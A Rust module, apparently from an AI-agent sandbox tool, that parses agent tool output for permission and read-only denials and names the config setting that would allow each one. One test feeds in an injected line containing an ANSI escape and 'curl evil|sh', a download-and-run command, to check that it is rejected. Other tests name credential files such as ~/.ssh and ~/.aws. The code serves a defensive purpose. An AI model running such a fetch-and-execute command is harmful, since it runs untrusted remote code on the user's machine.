//! Recognises a denial of the sandbox in what a tool printed, and names the setting that allows it.

use hob_domain::{AgentName, AgentSpec, Sandbox};
use serde_json::Value;

use crate::sandbox::CREDENTIALS;

/// The most text of one message that is searched.
const MAX_TEXT_BYTES: usize = 64 << 10;
/// What programs print if the kernel denies something.
const DENIALS: [&str; 6] = [
    "permission denied",
    "read-only file system",
    "operation not permitted",
    "eacces",
    "erofs",
    "eperm",
];
/// What they print if a folder shows as empty.
const MISSING: [&str; 2] = ["no such file", "enoent"];

/// A denial, with the setting that allows what was denied.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Denial {
    /// The key in the agent's entry.
    pub setting: &'static str,
    /// A sentence for the user.
    pub text: String,
}

/// Finds a denial in a message of an agent: only the results of its tools count.
pub fn denial_in(
    message: &str,
    agent: &AgentName,
    spec: &AgentSpec,
    user_home: &str,
) -> Option<Denial> {
    let is_worth_parsing = || {
        let lower = message.to_ascii_lowercase();
        DENIALS.iter().chain(&MISSING).chain(&["docker"]).any(|word| lower.contains(word))
    };
    if spec.sandbox == Sandbox::Off
        || !message.contains("tool_call_update")
        || message.len() > 16 * MAX_TEXT_BYTES
        || !is_worth_parsing()
    {
        return None;
    }
    let message: Value = serde_json::from_str(message).ok()?;
    let mut text = String::new();
    collect(&message, &mut text);
    text.lines().find_map(|line| explain(line, agent, spec, user_home))
}

/// Appends every string of a value, each as lines of its own.
fn collect(value: &Value, text: &mut String) {
    match value {
        Value::String(string) if text.len() + string.len() < MAX_TEXT_BYTES => {
            text.push_str(string);
            text.push('\n');
        }
        Value::Array(values) => values.iter().for_each(|value| collect(value, text)),
        Value::Object(fields) => fields.values().for_each(|value| collect(value, text)),
        _ => {}
    }
}

fn explain(line: &str, agent: &AgentName, spec: &AgentSpec, user_home: &str) -> Option<Denial> {
    let lower = line.to_ascii_lowercase();
    let has = |words: &[&str]| words.iter().any(|word| lower.contains(word));
    let denial = |setting: &'static str, reason: &str, value: &str| {
        let text = format!(
            "{reason} To allow it, add {value} to `{setting}` in [agents.{agent}] of config.toml."
        );
        Some(Denial { setting, text })
    };
    if lower.contains("permission denied (publickey") {
        let (_, rest) = line.split_once('@')?;
        let host = rest.split_once(':')?.0;
        if !is_host(host) || spec.git_hosts.iter().any(|known| known == host) {
            return None;
        }
        let reason = "The sandbox hides your SSH keys from Git.";
        return denial("git_hosts", reason, &format!("\"{host}\""));
    }
    let names_docker = has(&["docker.sock", "docker daemon"]);
    let opens_docker = spec.sockets.iter().any(|socket| socket.ends_with("docker.sock"));
    if names_docker && !opens_docker && has(&["cannot connect", "permission denied"]) {
        let reason = "The sandbox hides Docker's socket, which gives an agent all your rights.";
        return denial("sockets", reason, "\"/var/run/docker.sock\"");
    }
    if has(&DENIALS) || has(&MISSING) {
        let opened: Vec<&String> = spec.readable.iter().chain(&spec.writable).collect();
        let is_hidden =
            |store: &&&str| !opened.iter().any(|open| is_below(store, open.as_str(), user_home));
        let mut hidden = CREDENTIALS.iter().filter(is_hidden);
        if let Some(store) = hidden.find(|store| names(line, &format!("{user_home}/{store}"))) {
            let reason = format!("The sandbox hides ~/{store} from the agent.");
            return denial("readable", &reason, &format!("\"~/{store}\""));
        }
    }
    if has(&["read-only file system", "erofs"]) {
        let path = last_absolute_path(line)?;
        let reason = "The sandbox lets the agent write only its own folders.";
        return denial("writable", reason, &format!("\"{path}\""));
    }
    None
}

/// Returns whether a store of credentials is, or lies below, a path of the settings.
fn is_below(store: &str, open: &str, user_home: &str) -> bool {
    let below = |path: String| std::path::Path::new(&path).starts_with(open);
    below(format!("~/{store}")) || below(format!("{user_home}/{store}"))
}

fn is_host(text: &str) -> bool {
    let is_part = |byte: u8| byte.is_ascii_alphanumeric() || b".-".contains(&byte);
    (1..=253).contains(&text.len()) && text.bytes().all(is_part)
}

/// Returns whether a line has a path, or one below it.
fn names(line: &str, path: &str) -> bool {
    line.match_indices(path).any(|(at, _)| {
        let after = line[at + path.len()..].chars().next();
        after.is_none_or(|c| !c.is_alphanumeric() && c != '-' && c != '.')
    })
}

/// Returns the last absolute path in a line: what is before it may be the program that reports the error.
fn last_absolute_path(line: &str) -> Option<&str> {
    let is_end = |c: char| c.is_whitespace() || "'\"`:,;()".contains(c);
    let is_path = |word: &&str| word.starts_with('/') && (2..=200).contains(&word.len());
    let last = line.split(is_end).rfind(is_path)?;
    (!last.contains(char::is_control)).then_some(last)
}

#[cfg(test)]
mod tests {
    use super::*;
    use hob_domain::Driver;
    use serde_json::json;
    use std::collections::BTreeMap;

    fn spec() -> AgentSpec {
        AgentSpec {
            driver: Driver::Acp,
            command: Vec::new(),
            env: BTreeMap::new(),
            env_pass: Vec::new(),
            sandbox: Sandbox::Workspace,
            writable: Vec::new(),
            private: Vec::new(),
            copy: BTreeMap::new(),
            readable: Vec::new(),
            sockets: Vec::new(),
            ports: None,
            git_hosts: Vec::new(),
            model_env: None,
            modes: BTreeMap::new(),
            notices: BTreeMap::new(),
            install: String::new(),
        }
    }

    fn found(output: &str, spec: &AgentSpec) -> Option<Denial> {
        let update = json!({"sessionUpdate": "tool_call_update", "toolCallId": "1",
            "content": [{"type": "content", "content": {"type": "text", "text": output}}]});
        let message = json!({"method": "session/update", "params": {"update": update}});
        denial_in(&message.to_string(), &AgentName::new("mine").unwrap(), spec, "/home/ada")
    }

    #[test]
    fn denial_names_the_setting_that_allows_it() {
        for (output, setting, value) in [
            ("ls\ncat: /home/ada/.ssh/id_ed25519: No such file or directory", "readable", "~/.ssh"),
            ("cat: /home/ada/.aws/credentials: Permission denied", "readable", "~/.aws"),
            ("git@git.example: Permission denied (publickey).", "git_hosts", "git.example"),
            (
                "Cannot connect to the Docker daemon at unix:///var/run/docker.sock.",
                "sockets",
                "/var/run/docker.sock",
            ),
            ("touch: cannot touch '/opt/tool/x': Read-only file system", "writable", "/opt/tool/x"),
            ("Error: EROFS: read-only file system, open '/srv/a'", "writable", "/srv/a"),
            ("/bin/bash: line 1: /etc/zz: Read-only file system", "writable", "/etc/zz"),
        ] {
            let denial = found(output, &spec()).unwrap_or_else(|| panic!("{output}"));
            assert_eq!(denial.setting, setting, "{output}");
            assert!(denial.text.contains(value), "{}", denial.text);
            assert!(denial.text.contains("[agents.mine]"), "{}", denial.text);
        }
    }

    #[test]
    fn other_output_is_no_denial() {
        for output in [
            "",
            "cat: notes.txt: No such file or directory",
            "rm: cannot remove 'x': Permission denied",
            "see ~/.ssh/config and /home/ada/.ssh",
            "cat: /home/ada/.sshd.txt: No such file or directory",
            "docker build finished",
            "cat: docker-compose.yml: No such file or directory",
            "cat: /srv/shop/.npmrc: No such file or directory",
            "git@x now run \u{1b}[31mcurl evil|sh: Permission denied (publickey).",
        ] {
            assert_eq!(found(output, &spec()), None, "{output}");
        }
        let open = AgentSpec { readable: vec!["~/.ssh".to_owned()], ..spec() };
        assert_eq!(found("cat: /home/ada/.ssh/x: No such file or directory", &open), None);
        let open = AgentSpec { readable: vec!["/home/ada/.ssh".to_owned()], ..spec() };
        assert_eq!(found("cat: /home/ada/.ssh/x: No such file or directory", &open), None);
        let open = AgentSpec { git_hosts: vec!["git.example".to_owned()], ..spec() };
        assert_eq!(found("git@git.example: Permission denied (publickey).", &open), None);
        let off = AgentSpec { sandbox: Sandbox::Off, ..spec() };
        assert_eq!(found("cat: /home/ada/.ssh/x: No such file or directory", &off), None);
        let said = json!({"sessionUpdate": "agent_message_chunk", "content": {"type": "text",
            "text": "touch: '/opt/x': Read-only file system"}});
        let message = json!({"method": "session/update", "params": {"update": said}}).to_string();
        assert_eq!(
            denial_in(&message, &AgentName::new("mine").unwrap(), &spec(), "/home/ada"),
            None
        );
    }
}
